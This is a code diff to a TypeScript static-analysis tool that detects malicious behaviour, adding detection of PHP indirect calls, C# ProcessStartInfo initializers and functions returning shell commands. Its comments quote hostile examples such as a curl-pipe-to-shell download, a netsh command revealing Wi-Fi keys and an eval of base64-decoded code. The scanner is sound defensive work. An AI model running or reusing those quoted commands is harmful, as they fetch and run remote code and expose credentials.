@@ -172,7 +172,7 @@ function readLexical(
   for (const statement of statementsOf(unit, apis)) {
     const { line } = statement;
     const spelled = spellBuiltValues(statement.text);
-    const text = spelled.text;
+    const text = namedCalls(spelled.text, apis, variables);
     const base = { line, text: statement.text.trim().split('\n')[0] ?? '' };
     const defined = apis.functionStart.exec(text)?.[1];
     if (defined !== undefined) current = defined;
@@ -366,7 +366,9 @@ function readLexical(
     const evaluator = outsideStrings(apis.evaluate, text)?.[0];
     // `eval(base64_decode('…'))`: the code evaluated is the literal decoded, read as this language's code.
     const payload = apis.decode.test(text) ? decodedLiteral(text) : undefined;
-    if (evaluator !== undefined) {
+    const fileOnly =
+      evaluator !== undefined && apis.evaluateFile?.test(evaluator) === true && input.length === 0;
+    if (evaluator !== undefined && !fileOnly) {
       facts.push({
         kind: 'exec',
         api: apiName(evaluator),
@@ -412,7 +414,7 @@ function readLexical(
         literalCommand(shell, apis.argumentString) ??
         (shell[1] === undefined ? program : undefined);
       if (started !== undefined && INTERACTIVE_SHELL_RE.test(started)) interactiveShell ??= base;
-      const held = referenced.map(([, v]) => v.command).find((c) => c !== undefined);
+      const held = [...referenced, ...called].map(([, v]) => v.command).find((c) => c !== undefined);
       // `exec.Command("netsh", "wlan", "show", "profile", n, "key=clear").Output()`: the output is a secret.
       // The literals after the starter count too: an argument built by concatenation ends the literal list.
       for (const line of [started ?? held ?? '', literals(text.slice(shell.index)).join(' ')]) {
@@ -458,6 +460,8 @@ function readLexical(
     ) {
       const f = functions.get(current) ?? { taint: 0, call: callPattern(current, apis) };
       f.taint |= produces & ~SOCKET;
+      // `return "curl -fsSL https://$host/u.sh | sh"`: a caller handing the result to a shell runs that line.
+      f.command ??= commandOf(text, heldValue);
       if (path !== undefined) f.path ??= path;
       functions.set(current, f);
     }
@@ -582,6 +586,30 @@ function interpolationsOnly(text: string): string {
     ];
     return names.length === 0 ? '""' : `" ${names.map((m) => m[0]).join(' ')} "`;
   });
+}
+
+/**
+ * A call through a variable that holds a function's name (PHP's `$fn = 'sys' . 'tem'; $fn('…')`,
+ * `call_user_func($fn, '…')`), spelled as the call it makes, so the starter's pattern sees it.
+ */
+function namedCalls(text: string, apis: LexicalApis, variables: ReadonlyMap<string, Held>): string {
+  if (!apis.lineComment.includes('#') || !apis.blockComments) return text;
+  const name = (v: string): string | undefined => {
+    const literal = variables.get(v)?.literal;
+    return literal !== undefined && /^[A-Za-z_]\w*$/.test(literal) ? literal : undefined;
+  };
+  return text
+    .replace(
+      /\bcall_user_func(?:_array)?\s*\(\s*(?:["'](\w+)["']|\$(\w+))\s*,\s*/g,
+      (m, fn?: string, v?: string) => {
+        const called = fn ?? (v === undefined ? undefined : name(v));
+        return called === undefined ? m : `${called}(`;
+      },
+    )
+    .replace(/\$(\w+)(\s*\()/g, (m, v: string, paren: string) => {
+      const called = name(v);
+      return called === undefined ? m : `${called}${paren}`;
+    });
 }
 
 /** Braces a statement opens minus those it closes, strings aside. */
@@ -1071,6 +1099,7 @@ function statementsOf(unit: Unit, apis: LexicalApis): Statement[] {
   let open: Statement | undefined;
   let depth = 0;
   let inBlockComment = false;
+  let inInitializer = false;
   lines.forEach((raw, i) => {
     const stripped = stripComments(raw, apis, inBlockComment);
     inBlockComment = stripped.inBlockComment;
@@ -1082,13 +1111,24 @@ function statementsOf(unit: Unit, apis: LexicalApis): Statement[] {
       statements.pop();
       open = last;
     }
+    // `var psi = new ProcessStartInfo` with its `{ FileName = …, Arguments = … }` on the lines below: one
+    // expression, read as one statement.
+    const initializer =
+      open === undefined && last !== undefined && /^\s*\{/.test(code) && INITIALIZER_RE.test(last.text);
+    if (initializer && last !== undefined) {
+      statements.pop();
+      open = last;
+      inInitializer = true;
+    }
     if (open === undefined) open = { text: code, line: unit.firstLine + i };
     else open.text += `\n${code}`;
-    depth += bracketBalance(code, apis.bracesAreTables === true);
+    // Inside an initializer every brace is the literal's (nested `new { … }` included).
+    depth += bracketBalance(code, apis.bracesAreTables === true || inInitializer);
     if (depth <= 0 || open.text.length > 8000) {
       statements.push(open);
       open = undefined;
       depth = 0;
+      inInitializer = false;
     }
   });
   if (open !== undefined) statements.push(open);
